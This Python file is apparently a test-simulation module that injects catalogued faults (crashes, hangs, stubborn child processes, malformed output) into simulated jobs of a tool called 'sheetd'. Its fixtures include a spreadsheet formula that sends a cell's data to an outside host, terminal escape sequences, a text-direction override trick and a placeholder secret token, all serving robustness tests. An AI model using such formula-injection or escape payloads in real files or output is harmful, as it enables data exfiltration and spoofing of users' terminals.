"""The programs that rows run, and what is wrong with them. What a job does follows from its row's seed alone."""

from __future__ import annotations

import errno
import json
import random
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from tests.sim.engine import Engine
from tests.sim.machine import File, Process, failure, tell
from tests.sim.posix import OS, me

SECRET = "s3cr3t-t0ken-0123456789"


@dataclass(frozen=True)
class Fate:
    """How a job behaves: `crashes` runs fail before one succeeds."""

    seconds: float = 20.0
    crashes: int = 0
    rc: int = 1
    signal: int = 0
    hangs: bool = False
    ignores_term: bool = False
    term_rc: int | None = None
    children: int = 0
    child_is_stubborn: bool = False
    child_hides: bool = False
    #: Which of `GARBAGE` it prints.
    garbage: tuple[str, ...] = ()
    reports: bool = True


def draw_fate(chance: random.Random, kinds: set[str]) -> Fate:
    """One job. `kinds` are the faults of the catalogue that this run enables."""

    def may(kind: str, probability: float) -> bool:
        return kind in kinds and chance.random() < probability

    crashes = 0
    if may("J2", 0.3):
        crashes = chance.randrange(1, 3)
    if may("J3", 0.15):
        crashes = 99
    return Fate(
        seconds=0.0 if may("J1", 0.1) else chance.choice([0.5, 5.0, 30.0, 120.0]) * (0.5 + chance.random()),
        crashes=99 if may("J1", 0.1) else crashes,
        rc=chance.choice([1, 2, 3, 77, 137]),
        signal=chance.choice([9, 11, 15]) if may("J4", 0.2) else 0,
        hangs=may("J5", 0.15),
        ignores_term=may("J12", 0.3),
        term_rc=0 if may("J10", 0.2) else None,
        children=chance.randrange(1, 4) if may("J11", 0.4) else 0,
        child_is_stubborn=may("J12", 0.5),
        child_hides=may("J13", 0.5),
        garbage=tuple(name for name in GARBAGE if may(name.partition(" ")[0], 0.5)),
        reports=not may("J6", 0.3),
    )


#: By the fault of the catalogue that each is.
GARBAGE: dict[str, tuple[bytes, ...]] = {
    "J7 NaN and infinity": (b'{"values": {"loss": NaN}}\n{"values": {"loss": 1e400}}\n\xff\xfe broken\n',),
    "J15 70,000 bytes without a newline": (b"x" * 70_000,),
    "J16 escapes, carriage returns, broken text": (
        b"\x1b[2J\x1b]0;title\x07\r 12%|#   | 1/8\r 25%|##",
        b'=IMPORTDATA("http://example.org/?"&A1)\n',
        b"ValueError: \xe2\x80\xae evil\n",
    ),
    "J18 a secret": (f"the token is {SECRET}\n".encode(),),
    "J17 a forged frame": (b"SHEETD 00000000000000000000000000000000 2 44136fa355b3678a\n{}\n",),
}


def run_job(
    engine: Engine,
    fate: Fate,
    is_calm: list[bool],
    process: Process,
    env: dict[str, str],
    reads: Callable[[dict[str, Any]], None],
) -> int:
    """The life of a job's main process; `reads` hears what `sheetd.params()` gives. Returns its exit code."""
    begin(engine, fate, is_calm, process)
    run = int(env["SHEETD_RESTART"])
    steps = 4
    for step in range(steps):
        reads(json.loads(bytes(process.machine.find(env["SHEETD_PARAMS_FILE"]).data)))
        engine.sleep(min(fate.seconds / steps, 1.0) if is_calm[0] else fate.seconds / steps)
        if fate.reports:
            write(
                process,
                env["SHEETD_METRICS_FILE"],
                json.dumps({"step": step, "values": {"loss": 1.0 / (step + 1)}, "k": run}),
            )
        for name in fate.garbage:
            engine.fault(name)
            said = GARBAGE[name][(step + run) % len(GARBAGE[name])]
            write(process, env["SHEETD_METRICS_FILE"], said.decode("utf-8", "surrogateescape"))
            talk(said)
        checkpoint = env["CHECKPOINT_DIR"]
        leave(process, f"{checkpoint}/step-{step}")
    if fate.hangs and not is_calm[0]:
        engine.fault("J5 a job hangs")
    while fate.hangs and not is_calm[0]:
        engine.sleep(30.0)
    talk(b"loss=0.5\nValueError: the end of it\n")
    if "J18 a secret" in fate.garbage:
        talk(GARBAGE["J18 a secret"][0])
    return end(engine, fate, process, run)


def begin(engine: Engine, fate: Fate, is_calm: list[bool], process: Process) -> None:
    """What is wrong with it from the start."""
    machine = process.machine
    process.ignores_term = fate.ignores_term
    if not fate.reports:
        engine.fault("J6 a job is silent")
    if fate.term_rc is not None:
        process.handlers[15] = lambda _number, _frame: leave_at_once(engine, process, fate.term_rc)
    for number in range(fate.children):
        engine.fault("J11 a child that may outlive its parent")
        born = machine.new_process(process, "job child", lambda: live_on(engine, is_calm))
        born.handlers = {}
        if born.fds:
            engine.fault("J14 a child holds its parent's descriptors")
        if fate.child_is_stubborn:
            engine.fault("J12 a child ignores TERM")
            born.ignores_term = True
        if fate.child_hides and number == 0:
            engine.fault("J13 a child leaves the session and forgets its environment")
            born.session, born.environ = born.pid, {}


def leave_at_once(engine: Engine, process: Process, rc: int | None) -> None:
    """The job's own handler of TERM: it says that all went well, and has not done what it was for."""
    engine.fault("J10 a job that was told to end exits with 0")
    process.machine.end(process, (rc or 0) << 8)


def end(engine: Engine, fate: Fate, process: Process, run: int) -> int:
    if run >= fate.crashes:
        return 0
    engine.fault("J1 a job crashes at once" if fate.seconds == 0.0 else "J2 a job crashes")
    if run:
        engine.fault("J3 a job crashes again")
    if fate.signal:
        engine.fault("J4 a job is ended by a signal")
        process.machine.end(me(), fate.signal)
    return fate.rc


def live_on(engine: Engine, is_calm: list[bool]) -> None:
    while not is_calm[0]:
        engine.sleep(60.0)


def talk(data: bytes) -> None:
    try:
        OS.write(1, data)
    except OSError as error:
        if error.errno != errno.ENOSPC:
            raise


def write(process: Process, path: str, line: str) -> None:
    file = process.machine.find(path)
    if process.machine.disk_full:
        return
    file.data += line.encode("utf-8", "surrogateescape") + b"\n"
    tell(file)
    process.machine.changed()


def leave(process: Process, path: str) -> None:
    try:
        if process.machine.disk_full:
            raise failure(errno.ENOSPC)
        folder, name = process.machine.place(path)
        if name not in folder.entries:
            folder.put(name, File(b"weights"))
    except OSError as error:
        if error.errno not in (errno.ENOSPC, errno.ENOENT):
            raise
